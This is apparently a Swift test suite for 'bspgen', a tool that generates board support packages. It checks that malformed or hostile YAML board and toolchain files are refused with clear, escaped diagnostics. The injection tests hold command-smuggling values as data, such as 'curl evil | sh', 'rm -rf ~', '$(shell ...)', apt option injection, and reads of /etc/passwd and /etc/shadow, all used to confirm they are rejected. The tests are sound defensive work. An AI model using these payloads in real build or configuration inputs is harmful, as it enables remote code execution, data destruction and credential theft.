import BoardModel
import Foundation
import Testing

/// A scratch project (boards/, toolchains/, arches/ with the shipped architectures) for hostile and broken files.
private struct ScratchProject {
    let root = FileManager.default.temporaryDirectory.appendingPathComponent("bspgen-hostile-\(UUID().uuidString)")
    var boards: URL { root.appendingPathComponent("boards") }
    var toolchains: URL { root.appendingPathComponent("toolchains") }
    var arches: URL { root.appendingPathComponent("arches") }

    init() throws {
        let manager = FileManager.default
        for folder in ["boards/board/", "boards/common", "toolchains"] {
            try manager.createDirectory(at: root.appendingPathComponent(folder), withIntermediateDirectories: true)
        }
        try manager.copyItem(at: repositoryRoot.appendingPathComponent("arches"), to: arches)
        try manager.copyItem(at: repositoryRoot.appendingPathComponent("toolchains/aarch64-linux-gnu.yaml"),
                             to: toolchains.appendingPathComponent("aarch64-linux-gnu.yaml"))
        for file in ["boards/common/base.list", "boards/common/init", "boards/board/linux.fragment", "boards/common/busybox.fragment"] {
            try "# fixture\n".write(to: root.appendingPathComponent(file), atomically: true, encoding: .utf8)
        }
    }

    func write(_ text: String, to path: String) throws {
        try Data(text.utf8).write(to: root.appendingPathComponent(path))
    }

    func catalog(only: [String]? = nil) -> Catalog {
        Catalog(boardsDirectory: boards, toolchainsDirectory: toolchains, archesDirectory: arches,
                onlyFiles: only.map { $0.map { root.appendingPathComponent($0) } })
    }

    func remove() { try? FileManager.default.removeItem(at: root) }
}

let hostileGoodBoard = """
    name: board
    description: a board for hostile input
    arch: aarch64
    toolchain: aarch64-linux-gnu
    kernel:
      base_config: tinyconfig
      fragments: [linux.fragment]
      image: Image
    cmdline: console=ttyAMA0
    console: ttyAMA0
    busybox:
      fragments: [../common/busybox.fragment]
    qemu:
      binary: qemu-system-aarch64
      machine: virt
      memory: 256M
    """

/// Class 8 of issue 21: what messages say. Every problem of a file at once, a misspelt required key named, values
/// shown escaped and cut.
@Suite struct DescriptionMessageTests {
    @Test(arguments: [
        ("  memory: 256M", "  memroy: 256M", "qemu.memroy", "memory", 16),
        ("toolchain: aarch64-linux-gnu", "toolchian: aarch64-linux-gnu", "toolchian", "toolchain", 4),
        ("  image: Image", "  Image: Image", "kernel.Image", "image", 8),
    ])
    func aMisspeltRequiredKeyIsNamedAtItsLineWithTheRightName(_ change: (old: String, new: String, field: String, right: String, line: Int)) throws {
        let project = try ScratchProject()
        defer { project.remove() }
        try project.write(hostileGoodBoard.replacingOccurrences(of: change.old, with: change.new), to: "boards/board.yaml")
        let diagnostics = project.catalog().diagnostics
        #expect(diagnostics.count == 1, "\(diagnostics)")
        let diagnostic = try #require(diagnostics.first)
        #expect(diagnostic.field == change.field)
        #expect(diagnostic.location.line == change.line && diagnostic.location.column != nil, "\(diagnostic)")
        #expect(diagnostic.message.contains("required field '\(change.right)' is missing"), "\(diagnostic)")
        #expect(diagnostic.hint?.contains("did you mean '\(change.right)'?") == true, "\(diagnostic)")
    }

    @Test func everyProblemOfAFileIsReportedEachOnItsOwnLineInFileOrder() throws {
        let project = try ScratchProject()
        defer { project.remove() }
        let broken = hostileGoodBoard
            .replacingOccurrences(of: "description: a board for hostile input\n", with: "")   // missing, no misspelling
            .replacingOccurrences(of: "  fragments: [linux.fragment]", with: "  fragments: linux.fragment")   // wrong type
            .replacingOccurrences(of: "  image: Image", with: "  image: Image\n  colour: blue")   // unknown key
            .replacingOccurrences(of: "  memory: 256M", with: "  memory: 256M\n  dtb: maybe")   // bad value
        try project.write(broken, to: "boards/board.yaml")
        let diagnostics = project.catalog().diagnostics
        #expect(diagnostics.map(\.field) == ["", "kernel.fragments", "kernel.colour", "qemu.dtb"], "\(diagnostics)")
        #expect(diagnostics.map { $0.location.line ?? 0 } == [1, 6, 8, 17], "\(diagnostics)")
        #expect(diagnostics.allSatisfy { !$0.message.contains("\n") })
        #expect(diagnostics[0].message == "missing required field 'description'")
    }

    @Test func aControlCharacterWrittenRawIsLocatedAndNeverEchoed() throws {
        let project = try ScratchProject()
        defer { project.remove() }
        try project.write(hostileGoodBoard.replacingOccurrences(of: "a board for hostile input", with: "x\u{1B}[2J\u{1B}[Hok"), to: "boards/board.yaml")
        let diagnostics = project.catalog().diagnostics
        #expect(diagnostics.map { "\($0.location.line ?? 0):\($0.location.column ?? 0)" } == ["2:15", "2:19"], "\(diagnostics)")
        #expect(diagnostics.allSatisfy { $0.description.contains("\\e") && !$0.description.contains("\u{1B}") })
    }

    @Test func aControlCharacterWrittenAsAYAMLEscapeIsRefusedAtItsValue() throws {
        let project = try ScratchProject()
        defer { project.remove() }
        try project.write(hostileGoodBoard.replacingOccurrences(of: "description: a board for hostile input", with: #"description: "x\e[2Jok""#),
                          to: "boards/board.yaml")
        let diagnostic = try #require(project.catalog().diagnostics.first)
        #expect(diagnostic.field == "description" && diagnostic.location.line == 2)
        #expect(diagnostic.message.contains("control character \\e"), "\(diagnostic)")
        #expect(!diagnostic.description.unicodeScalars.contains { $0.value == 0x1B })
    }

    @Test func aVeryLongValueIsCutInTheMessage() throws {
        let project = try ScratchProject()
        defer { project.remove() }
        let long = String(repeating: "A", count: 200_000)
        try project.write(hostileGoodBoard.replacingOccurrences(of: "toolchain: aarch64-linux-gnu", with: "toolchain: \(long)"), to: "boards/board.yaml")
        let diagnostics = project.catalog().diagnostics
        #expect(!diagnostics.isEmpty)
        for diagnostic in diagnostics {
            #expect(diagnostic.description.count < 2000, "\(diagnostic.description.prefix(300))")
        }
        #expect(diagnostics.contains { $0.description.contains("…(199800 more characters)…") }, "\(diagnostics.map { $0.description.prefix(300) })")
    }

    @Test func quotingEscapesAndCuts() {
        #expect(DescriptionText.quoted("plain") == "'plain'")
        #expect(DescriptionText.quoted("a\nb\u{1B}c\u{202E}d\u{7}") == "'a\\nb\\ec\\u{202E}d\\x07'")
        #expect(DescriptionText.quoted(String(repeating: "x", count: 200), limit: 10) == "'xxxxx…(190 more characters)…xxxxx'")
        #expect(DescriptionText.forTerminal("one\ntwo\u{7}\u{9B}") == "one\ntwo\\x07\\x9B")
    }

    @Test(arguments: [
        ("name: x\n\tarch: y\n", "a tab in the indentation", 2),
        ("name: \"x\n", "a quoted string that is not closed", 2),
        ("name: [a, b\n", "a '[' list that is not closed", 2),
        ("name: x\n  arch: y\n", "a ':' where no field can start", 2),
        ("--- \nname: x\n--- \nname: y\n", "a second YAML document", 3),
        ("name: *x\n", "aliases are not supported", 1),
    ])
    func libyamlErrorsAreSaidInPlainWords(_ broken: (yaml: String, message: String, line: Int)) throws {
        let project = try ScratchProject()
        defer { project.remove() }
        try project.write(broken.yaml, to: "boards/board.yaml")
        let diagnostic = try #require(project.catalog().diagnostics.first)
        #expect(diagnostic.message.contains(broken.message), "\(diagnostic)")
        #expect(diagnostic.location.line == broken.line, "\(diagnostic)")
        for word in ["<block end>", "<document start>", "scanner:", "parser:", "error:"] {
            #expect(!diagnostic.description.contains(word), "\(diagnostic)")
        }
    }

    @Test func boardsOptionNamingAFileIsAnError() throws {
        let project = try ScratchProject()
        defer { project.remove() }
        try project.write(hostileGoodBoard, to: "boards/board.yaml")
        let catalog = Catalog(boardsDirectory: project.boards.appendingPathComponent("board.yaml"), toolchainsDirectory: project.toolchains,
                              archesDirectory: project.arches)
        #expect(catalog.diagnostics.map(\.message) == ["is a file; --boards takes the folder of board files"])
        #expect(catalog.diagnostics.first?.hint?.contains("bspgen validate") == true)
    }

    @Test func foundationFileErrorsAreSaidInPlainWords() {
        let error = CocoaError(.fileReadUnknown, userInfo: [NSFilePathErrorKey: "/x/y", NSUnderlyingErrorKey: NSError(domain: NSPOSIXErrorDomain, code: Int(EACCES))])
        #expect(ErrorText.describe(error) == "/x/y: permission denied")
        #expect(ErrorText.describe(CocoaError(.fileWriteOutOfSpace, userInfo: [NSFilePathErrorKey: "/out"])) == "/out: no space left on device")
        #expect(!ErrorText.describe(CocoaError(.fileReadUnknown)).contains("NSCocoaErrorDomain"))
    }
}

/// Class 7 (and the bounded reads of class 2) for description files: bytes that are not UTF-8, and files that are
/// not regular files or are too large, each refused with the place.
@Suite struct DescriptionReadingTests {
    @Test func aLatin1ByteIsReportedAtItsLineAndColumn() throws {
        let project = try ScratchProject()
        defer { project.remove() }
        var bytes = Array(hostileGoodBoard.utf8)
        let at = bytes.firstIndex(of: UInt8(ascii: "h"))!   // "hostile", line 2 column 26
        bytes[at] = 0xE9
        try Data(bytes).write(to: project.boards.appendingPathComponent("board.yaml"))
        let diagnostic = try #require(project.catalog().diagnostics.first)
        #expect(diagnostic.location.line == 2 && diagnostic.location.column == 26, "\(diagnostic)")
        #expect(diagnostic.message == "byte 0xE9 is not UTF-8 text", "\(diagnostic)")
    }

    @Test func aByteInAToolchainFileIsLocatedToo() throws {
        let project = try ScratchProject()
        defer { project.remove() }
        try Data("name: bad\narch: aarch64\n# caf\u{E9}\n".utf8.map { $0 == 0xC3 ? 0xE9 : $0 }.filter { $0 != 0xA9 })
            .write(to: project.toolchains.appendingPathComponent("bad.yaml"))
        let diagnostic = try #require(project.catalog().diagnostics.first { $0.location.file.hasSuffix("bad.yaml") })
        #expect(diagnostic.location.line == 3 && diagnostic.location.column == 6, "\(diagnostic)")
    }

    @Test func aFIFOIsRefusedWithoutWaitingForAWriter() throws {
        let project = try ScratchProject()
        defer { project.remove() }
        let fifo = project.boards.appendingPathComponent("board.yaml")
        #expect(mkfifo(fifo.path, 0o644) == 0)
        let start = Date()
        let diagnostic = try #require(project.catalog().diagnostics.first)
        #expect(Date().timeIntervalSince(start) < 5)
        #expect(diagnostic.message == "is a FIFO (named pipe), not a text file", "\(diagnostic)")
    }

    @Test func aFolderAndAHugeFileAreRefused() throws {
        let project = try ScratchProject()
        defer { project.remove() }
        try FileManager.default.createDirectory(at: project.boards.appendingPathComponent("folder.yaml"), withIntermediateDirectories: true)
        let huge = project.boards.appendingPathComponent("huge.yaml")
        #expect(FileManager.default.createFile(atPath: huge.path, contents: nil))
        let handle = try FileHandle(forWritingTo: huge)
        try handle.truncate(atOffset: 1 << 30)   // sparse: nothing is written, nothing must be read
        try handle.close()
        let messages = Dictionary(project.catalog().diagnostics.map { (URL(fileURLWithPath: $0.location.file).lastPathComponent, $0.message) },
                                  uniquingKeysWith: { first, _ in first })
        #expect(messages["folder.yaml"] == "is a directory, not a text file")
        #expect(messages["huge.yaml"]?.contains("bspgen reads text files of at most 1024 KiB") == true, "\(messages)")
    }
}

/// Class 4 of issue 21: values that reach make, apt-get, a shell or a printed install command are words.
@Suite struct InjectionTests {
    func toolchain(_ replacements: [(String, String)]) -> String {
        var text = """
            name: evil
            arch: aarch64
            kernel_arch: arm64
            cross_compile: aarch64-linux-gnu-
            debian_packages: [gcc-aarch64-linux-gnu, libc6-dev-arm64-cross]
            min_gcc_version: "10.1"
            """
        for (old, new) in replacements { text = text.replacingOccurrences(of: old, with: new) }
        return text
    }

    @Test(arguments: [
        ("kernel_arch: arm64", "kernel_arch: \"arm64 $(shell touch /tmp/pwned)\"", "kernel_arch"),
        ("kernel_arch: arm64", "kernel_arch: --eval=x", "kernel_arch"),
        ("cross_compile: aarch64-linux-gnu-", "cross_compile: \"aarch64-linux-gnu-$(shell id)-\"", "cross_compile"),
        ("cross_compile: aarch64-linux-gnu-", "cross_compile: \"aarch64-linux-gnu-;id;\"", "cross_compile"),
        ("cross_compile: aarch64-linux-gnu-", "cross_compile: /opt/x/bin/aarch64-linux-gnu-", "cross_compile"),
        ("gcc-aarch64-linux-gnu,", "\"gcc; curl evil | sh\",", "debian_packages[0]"),
        ("gcc-aarch64-linux-gnu,", "-oDir::Etc=/tmp,", "debian_packages[0]"),
        ("libc6-dev-arm64-cross]", "\"$(reboot)\"]", "debian_packages[1]"),
        ("min_gcc_version: \"10.1\"", "min_gcc_version: \"10.1\"\nuname_machine: \"a b\"", "uname_machine"),
        ("name: evil", "name: \"evil'\"", "name"),
    ])
    func aToolchainValueThatIsNotAWordIsRefusedAtItsField(_ change: (old: String, new: String, field: String)) throws {
        let project = try ScratchProject()
        defer { project.remove() }
        try project.write(toolchain([(change.old, change.new)]), to: "toolchains/evil.yaml")
        let problems = project.catalog().diagnostics.filter { $0.location.file.hasSuffix("evil.yaml") && $0.field == change.field }
        #expect(!problems.isEmpty && problems.allSatisfy { $0.location.line != nil }, "\(project.catalog().diagnostics)")
    }

    @Test func pinnedAndForeignPackagesAreWords() throws {
        let project = try ScratchProject()
        defer { project.remove() }
        try project.write(toolchain([("libc6-dev-arm64-cross]", "libc6-dev-arm64-cross, \"libc6:arm64\", \"gcc-12=12.2.0-14\"]")]),
                          to: "toolchains/evil.yaml")
        #expect(project.catalog().diagnostics.filter { $0.location.file.hasSuffix("evil.yaml") }.isEmpty, "\(project.catalog().diagnostics)")
        #expect(Words.isPackageRequest("libc6:arm64") && Words.isPackageRequest("gcc-12=12.2.0-14") && Words.isPackageRequest("linux-source-6.1"))
        #expect(!Words.isPackageRequest("-o") && !Words.isPackageRequest("a=;b") && !Words.isPackageRequest("gcc ") && !Words.isPackageRequest("x:$(y)"))
    }

    @Test(arguments: [
        ("qemu:", "boot:\n  evil: {firmware: /usr/share/ovmf/OVMF.fd, package: \"ovmf; rm -rf ~\", disk: disk.img, attach: virtio-pci}\nqemu:",
         "boot.evil.package"),
        ("qemu:", "grub: {name: BOOTX64.EFI, format: x86_64-efi, package: grub-efi-amd64-bin, prefix: /EFI/BOOT, modules: [normal, \"-o/etc/passwd\"]}\nqemu:",
         "grub.modules[1]"),
        ("qemu:", "grub: {name: BOOTX64.EFI, format: ../../../etc, package: grub-efi-amd64-bin, prefix: /EFI/BOOT, modules: [normal]}\nqemu:",
         "grub.format"),
        ("qemu:", "grub: {name: BOOTX64.EFI, format: x86_64-efi, package: \"grub-efi-amd64-bin $(id)\", prefix: /EFI/BOOT, modules: [normal]}\nqemu:",
         "grub.package"),
        ("  base_config: tinyconfig", "  base_config: tinyconfig\n  source: {debian_package: \"-oDir::Etc::sourcelist=/tmp/x\"}", "kernel.source.debian_package"),
        ("busybox:\n", "busybox:\n  source: {debian_source: \"busybox;id\"}\n", "busybox.source.debian_source"),
        ("  base_config: tinyconfig", "  base_config: tinyconfig\n  source: {url: \"-K/etc/passwd\", sha256: \(String(repeating: "a", count: 64))}",
         "kernel.source.url"),
        ("qemu:", "boot_files: [{name: \"boot.scr\\\"); /incbin/(\\\"/etc/shadow\", template: ../common/init}]\nqemu:", "boot_files[0].name"),
    ])
    func aBoardValueThatReachesACommandIsAWord(_ change: (old: String, new: String, field: String)) throws {
        let project = try ScratchProject()
        defer { project.remove() }
        let text = hostileGoodBoard.replacingOccurrences(of: change.old, with: change.new)
        #expect(text != hostileGoodBoard)
        try project.write(text, to: "boards/board.yaml")
        let diagnostics = project.catalog().diagnostics
        #expect(diagnostics.contains { $0.field == change.field }, "\(diagnostics)")
        #expect(project.catalog().boards["board"] == nil)
    }

    @Test func aBadArchitectureFileIsRefusedAtItsFields() throws {
        let project = try ScratchProject()
        defer { project.remove() }
        var text = try String(contentsOf: project.arches.appendingPathComponent("aarch64.yaml"), encoding: .utf8)
        text = text.replacingOccurrences(of: "name: aarch64", with: "name: aarch64\nkvm_cpu_flags: [\"vmx; id\"]")
        try text.write(to: project.arches.appendingPathComponent("aarch64.yaml"), atomically: true, encoding: .utf8)
        #expect(project.catalog().diagnostics.contains { $0.field == "kvm_cpu_flags[0]" }, "\(project.catalog().diagnostics)")
    }

    @Test func everyRefusedExtraArgumentIsReported() {
        let refusals = QEMUExtraArguments.problems(["-nic", "none", "-chardev", "socket,path=/tmp/x", "-device", "virtio-serial,file=/etc/passwd",
                                                    "stray", "-display"])
        #expect(refusals.map(\.index) == [2, 4, 6, 7], "\(refusals)")
        #expect(refusals[1].argument == "-device virtio-serial,file=/etc/passwd")
        #expect(refusals[3].reason == "it needs a value")
        #expect(QEMUExtraArguments.problems(["-nic", "none", "-device", "virtio-rng-pci", "--nodefaults"]).isEmpty)
    }
}

@Suite struct ExternalModuleNameTests {
    @Test func anExternalModuleFolderNameMakeWouldExpandIsRefused() throws {
        let project = try ScratchProject()
        defer { project.remove() }
        let folder = project.boards.appendingPathComponent("board/$(shell touch pwned)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        try "obj-m += x.o\n".write(to: folder.appendingPathComponent("Kbuild"), atomically: true, encoding: .utf8)
        try project.write(hostileGoodBoard.replacingOccurrences(of: "  image: Image", with: "  image: Image\n  external_modules: [\"$(shell touch pwned)\"]"),
                          to: "boards/board.yaml")
        let diagnostics = project.catalog().diagnostics
        #expect(diagnostics.map(\.field) == ["kernel.external_modules[0]"], "\(diagnostics)")
        #expect(diagnostics.first?.location.line == 9)
    }
}
